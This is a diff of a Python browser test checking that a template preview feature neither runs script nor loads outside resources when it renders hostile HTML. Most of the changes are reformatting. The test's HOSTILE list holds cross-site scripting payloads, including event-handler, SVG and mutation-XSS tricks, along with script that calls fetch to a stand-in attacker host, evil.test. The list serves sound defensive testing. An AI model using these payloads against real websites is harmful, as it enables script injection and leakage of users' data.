@@ -9,15 +9,21 @@ from templates_app.views.preview import document, samples
 
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
 HOST = "http://console.test"
-FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
-         "--disable-sync", "--no-first-run"]
+FLAGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+]
 RUN = "top.postMessage('ran','*');fetch('http://evil.test/x')"
 HOSTILE = [
     f"<script>{RUN}</script>",
-    f"<img src=x onerror=\"{RUN}\">",
-    f"<svg onload=\"{RUN}\"><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>",
-    f"<body onload=\"{RUN}\">",
-    f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
+    f'<img src=x onerror="{RUN}">',
+    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
+    f'<body onload="{RUN}">',
+    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
     "<iframe src='http://evil.test/frame'></iframe>",
     "<object data='http://evil.test/object'></object><embed src='http://evil.test/embed'>",
     "<img src='http://evil.test/a.png' srcset='http://evil.test/b.png 2x'>",
@@ -29,7 +35,7 @@ HOSTILE = [
     "<video src='http://evil.test/v' autoplay></video><audio src='http://evil.test/w' autoplay></audio>",
     "<link rel=prefetch href='http://evil.test/p'><link rel=preload as=image href='http://evil.test/q'>",
     "<base href='http://evil.test/'><img src=relative.png>",
-    f"<details open ontoggle=\"{RUN}\">x</details>",
+    f'<details open ontoggle="{RUN}">x</details>',
     f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart=\"{RUN}\">x</p>",
     f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
     "<a href='javascript:top.postMessage(1)' id=a>x</a>",
@@ -68,7 +74,8 @@ def test_a_browser_runs_and_fetches_nothing_from_hostile_templates():
             route.fulfill(status=200, headers=dict(answer.items()), body=answer.content)
         elif url == f"{HOST}/":
             frames = "".join(
-                f"<iframe sandbox src='/preview/{number}' width=300 height=200></iframe>" for number in range(len(HOSTILE))
+                f"<iframe sandbox src='/preview/{number}' width=300 height=200></iframe>"
+                for number in range(len(HOSTILE))
             )
             script = "<script>window.ran = []; addEventListener('message', (event) => ran.push(event.data))</script>"
             route.fulfill(status=200, content_type="text/html", body=f"<!doctype html>{script}{frames}")
